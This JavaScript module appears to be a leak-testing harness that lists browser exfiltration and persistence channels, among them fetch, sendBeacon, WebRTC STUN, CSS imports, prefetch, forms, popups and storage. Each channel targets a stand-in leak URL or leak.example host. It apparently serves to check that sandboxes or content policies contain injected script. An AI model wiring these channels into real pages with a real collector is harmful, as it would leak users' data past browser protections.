// Ways in which a page could let something out, as somebody's added line would try them. `to(way)` is an address that says what got out, and how.

const put = (tag, more, where = document.body) => where.appendChild(Object.assign(document.createElement(tag), more));
const style = (rule) => document.documentElement.attachShadow?.call(put('div', {}), { mode: 'open' }).append(Object.assign(document.createElement('style'), { textContent: rule }));

/** These leave the page where it is. */
export const STAY = {
  fetch: ({ to }) => fetch(to('fetch'), { mode: 'no-cors' }),
  xhr: ({ to }) => { const x = new XMLHttpRequest(); x.open('GET', to('xhr')); x.send(); },
  beacon: ({ to }) => navigator.sendBeacon(to('beacon'), 'x'),
  websocket: ({ to }) => new WebSocket(to('websocket').replace('http', 'ws')),
  eventsource: ({ to }) => new EventSource(to('eventsource')),
  webtransport: ({ to }) => new WebTransport(to('webtransport').replace('http:', 'https:')),
  webrtc: async ({ stun, host }) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: [`stun:${stun}`, `stun:${host('webrtc')}`] }] });
    call.createDataChannel('x');
    await call.setLocalDescription(await call.createOffer());
  },
  'webrtc of another window': async ({ stun }) => {
    const call = new (put('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: `stun:${stun}` }] });
    call.createDataChannel('x');
    await call.setLocalDescription(await call.createOffer());
  },
  image: ({ to }) => void (new Image().src = to('image')),
  media: ({ to }) => put('video', { src: to('media') }),
  css: ({ to }) => { document.body.style.background = `url(${to('css')})`; },
  import: ({ to }) => style(`@import url(${to('import')});`),
  stylesheet: ({ to }) => put('link', { rel: 'stylesheet', href: to('stylesheet') }),
  font: ({ to }) => new FontFace('x', `url(${to('font')})`).load(),
  script: ({ to }) => put('script', { src: to('script') }),
  module: ({ to }) => import(to('module')),
  worker: ({ to }) => new Worker(`data:text/javascript,fetch(${JSON.stringify(to('worker'))})`),
  'service worker': () => navigator.serviceWorker.register('/sw.js?via=service-worker'),
  frame: ({ to }) => put('iframe', { src: to('frame') }),
  'frame within': ({ to }) => put('iframe', { srcdoc: `<meta http-equiv=refresh content="0;url=${to('frame-within')}"><img src="${to('frame-within')}">` }),
  object: ({ to }) => put('object', { data: to('object') }),
  prefetch: ({ to }) => put('link', { rel: 'prefetch', href: to('prefetch') }, document.head),
  preload: ({ to }) => put('link', { rel: 'preload', as: 'image', href: to('preload') }, document.head),
  'dns-prefetch': ({ host }) => put('link', { rel: 'dns-prefetch', href: `//${host('dns-prefetch')}` }, document.head),
  preconnect: ({ host }) => put('link', { rel: 'preconnect', href: `http://${host('preconnect')}` }, document.head),
  speculation: ({ to }) => put('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [to('speculation')] }] }) }, document.head),
  manifest: ({ to }) => put('link', { rel: 'manifest', href: to('manifest') }, document.head),
  popup: ({ to }) => open(to('popup')),
  message: ({ mark }) => (parent === globalThis ? undefined : parent.postMessage({ mark }, '*')),
  channel: ({ mark }) => new BroadcastChannel('x').postMessage(mark),
  cookie: ({ mark }) => { document.cookie = `kept=${mark}`; },
  localStorage: ({ mark }) => localStorage.setItem('kept', mark),
  sessionStorage: ({ mark }) => sessionStorage.setItem('kept', mark),
  indexedDB: ({ mark }) => new Promise((done, fail) => {
    const asked = indexedDB.open('kept', 1);
    asked.onupgradeneeded = () => asked.result.createObjectStore('kept').put(mark, 'kept');
    Object.assign(asked, { onsuccess: done, onerror: fail });
  }),
  cache: async ({ mark }) => (await caches.open('kept')).put('/kept', new Response(mark)),
  'page around': ({ mark }) => { parent.document.title = mark; },
};

/** These may take the page away. */
export const GO = {
  form: ({ to }) => put('form', { action: to('form'), method: 'post' }).submit(),
  anchor: ({ to }) => put('a', { href: to('anchor') }).click(),
  ping: ({ to }) => put('a', { href: '#x', ping: to('ping') }).click(),
  refresh: ({ to }) => put('meta', { httpEquiv: 'refresh', content: `0;url=${to('refresh')}` }, document.head),
  address: ({ to }) => { location.href = to('address'); },
  top: ({ to }) => { top.location.href = to('top'); },
  download: ({ mark }) => put('a', { href: `data:text/plain,${mark}`, download: 'kept.txt' }).click(),
};

/** Tries these, all at once, and waits until each has failed or begun. */
export const attempt = (ways, names, given) => {
  const to = (way) => `${given.base}/leak?via=${way}&a=${given.mark}`;
  const host = (way) => `via-${way}.leak.example`;
  return Promise.all(names.map(async (name) => {
    try {
      await Promise.race([ways[name]({ ...given, to, host }), new Promise((on) => { setTimeout(on, 500); })]);
    } catch { /* refused: what got out is seen elsewhere */ }
  }));
};
